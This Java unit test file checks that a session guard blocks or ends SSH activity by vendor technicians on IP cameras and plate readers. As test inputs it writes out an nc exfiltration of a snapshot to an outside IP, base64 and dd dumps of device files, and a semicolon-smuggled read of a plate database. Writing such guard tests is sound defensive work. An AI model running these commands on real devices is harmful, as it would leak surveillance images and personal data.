package org.sallyport.policy.eval;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.sallyport.policy.guard.ChannelKind;
import org.sallyport.policy.guard.GuardAction;
import org.sallyport.policy.guard.GuardRules;
import org.sallyport.policy.guard.GuardVerdict;
import org.sallyport.policy.guard.StreamGuard;
import org.sallyport.policy.load.PolicyLoader;
import org.sallyport.policy.model.PolicyContext;
import org.sallyport.policy.model.RequestInfo;
import org.sallyport.policy.model.Requester;
import org.sallyport.policy.model.TargetInfo;

/** The YAML policy's channels, input and output, compiled into the live guard and exercised through a StreamGuard. */
class GuardRulesCompilerTest {
    private static final Instant T = Instant.parse("2026-12-01T16:00:00Z");
    private static final InstantSource CLOCK = InstantSource.fixed(T);

    private static PolicyContext ctx(String target, String kind) {
        return PolicyContext.forRequest(new Requester("tech", "acme-optics", Set.of("vendor-technician")),
                new TargetInfo(target, "anzalduas", kind, Set.of()), new RequestInfo(T, Duration.ofHours(1), "r", "CHG-1"));
    }

    private static StreamGuard cameraGuard() {
        GuardRules rules = PolicyLoader.loadDefault().guardRules(ctx("cam-anz-01", "ip-camera"));
        return new StreamGuard(rules, true, CLOCK);
    }

    private static GuardVerdict type(StreamGuard g, String line) {
        byte[] b = (line + "\r").getBytes(StandardCharsets.UTF_8);
        return g.input(b, 0, b.length);
    }

    @Test
    void cameraPolicyChannelsReachTheGuardWithTheirRuleIds() {
        StreamGuard g = cameraGuard();
        assertThat(g.channelRequest(ChannelKind.SHELL, null).passed()).isTrue();
        assertThat(g.channelRequest(ChannelKind.EXEC, "uptime").passed()).isTrue();
        var scp = g.channelRequest(StreamGuard.classify("exec", "scp -f /var/snapshots/1.jpg"), "scp -f /var/snapshots/1.jpg");
        assertThat(scp.action()).isEqualTo(GuardAction.BLOCK);
        assertThat(scp.ruleId()).isEqualTo("default.channel.scp");
        assertThat(g.channelRequest(ChannelKind.SUBSYSTEM, "sftp").ruleId()).isEqualTo("default.channel.subsystem");
        assertThat(g.channelRequest(ChannelKind.SUBSYSTEM, "other").ruleId()).isEqualTo("default.channel.subsystem");
        assertThat(g.channelRequest(ChannelKind.PORT_FORWARD, "127.0.0.1:554").passed()).isFalse();
        assertThat(g.channelRequest(ChannelKind.AGENT, null).passed()).isFalse();
        assertThat(g.channelRequest(ChannelKind.X11, null).passed()).isFalse();
        // an allowed exec is still checked against the policy's input rules
        var execNc = g.channelRequest(ChannelKind.EXEC, "cat /var/snapshots/1.jpg | nc 203.0.113.9 9000");
        assertThat(execNc.passed()).isFalse();
        assertThat(execNc.ruleId()).isEqualTo("default.input.transfer-tool");
    }

    @Test
    void cameraPolicyInputRulesBlockEncodersAndEndTheSessionOnTransferTools() {
        StreamGuard g = cameraGuard();
        assertThat(type(g, "tail -n 50 /var/log/messages").passed()).isTrue();
        var b = type(g, "base64 /var/snapshots/1.jpg");
        assertThat(b.action()).isEqualTo(GuardAction.BLOCK);
        assertThat(b.ruleId()).isEqualTo("default.input.encode-file");
        var v = type(cameraGuard(), "cat /var/snapshots/1.jpg | nc 203.0.113.9 9000");
        assertThat(v.action()).isEqualTo(GuardAction.TERMINATE);
        assertThat(v.ruleId()).isEqualTo("default.input.transfer-tool");
        // an exemption (RE2 has no look-ahead; the guard gets one): dd to a file passes, dd to the terminal not
        assertThat(type(cameraGuard(), "dd if=/dev/zero of=/tmp/blank bs=1k count=4").passed()).isTrue();
        assertThat(type(cameraGuard(), "dd if=/dev/mmcblk0p3 bs=1M").ruleId()).isEqualTo("default.input.dd-stdout");
    }

    @Test
    void cameraPolicyOutputDetectorsAndCapReachTheGuard() {
        StreamGuard g = cameraGuard();
        byte[] text = "eth0: link up\r\n".getBytes(StandardCharsets.US_ASCII);
        assertThat(g.output(text, 0, text.length).passed()).isTrue();
        byte[] jpeg = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0};
        var v = g.output(jpeg, 0, jpeg.length);
        assertThat(v.action()).isEqualTo(GuardAction.TERMINATE);
        assertThat(v.ruleId()).isEqualTo("default.output.binary");

        var caps = PolicyLoader.loadDefault().guardRules(ctx("cam-anz-01", "ip-camera")).output().volumeCaps();
        assertThat(caps).singleElement().satisfies(c -> {
            assertThat(c.id()).isEqualTo("default.output.volume");
            assertThat(c.maxBytes()).isEqualTo(50L * 1024 * 1024);
            assertThat(c.maxBytesPerSecond()).isEqualTo(2L * 1024 * 1024);
            assertThat(c.rateWindow()).isEqualTo(Duration.ofSeconds(10));
        });
    }

    @Test
    void anExecAllowListIsAFullMatchInTheGuard() {
        Policy lpr = PolicyLoader.loadDirectory(Path.of("examples/lpr-web-readonly"));
        StreamGuard g = new StreamGuard(lpr.guardRules(ctx("lpr-anz-02", "plate-reader")), false, CLOCK);
        assertThat(g.channelRequest(ChannelKind.SHELL, null).ruleId()).isEqualTo("status-commands-only.shell");
        assertThat(g.channelRequest(ChannelKind.SHELL, null).passed()).isFalse();
        assertThat(g.channelRequest(ChannelKind.EXEC, "lpr-status --verbose").passed()).isTrue();
        assertThat(g.channelRequest(ChannelKind.EXEC, "lpr-status --verbose; cat /var/lpr/plates.db").passed()).isFalse();
        var other = g.channelRequest(ChannelKind.EXEC, "cat /var/lpr/plates.db");
        assertThat(other.passed()).isFalse();
        assertThat(other.ruleId()).isEqualTo("status-commands-only.exec-other");
    }

    @Test
    void aSessionNoChannelRuleCoversGetsTheGuardsDefaultDeny() {
        Policy p = PolicyLoader.load("t", java.util.Map.of("p.yaml", "admission:\n  - {id: a, effect: allow, reason: r}\n"));
        StreamGuard g = new StreamGuard(p.guardRules(ctx("x", "ip-camera")), true, CLOCK);
        assertThat(g.channelRequest(ChannelKind.SHELL, null).ruleId()).isEqualTo(GuardRules.RULE_CHANNEL_DEFAULT);
        // and every detector is on (output.default)
        assertThat(p.guardRules(ctx("x", "ip-camera")).output().detectors()).hasSize(6);
    }
}
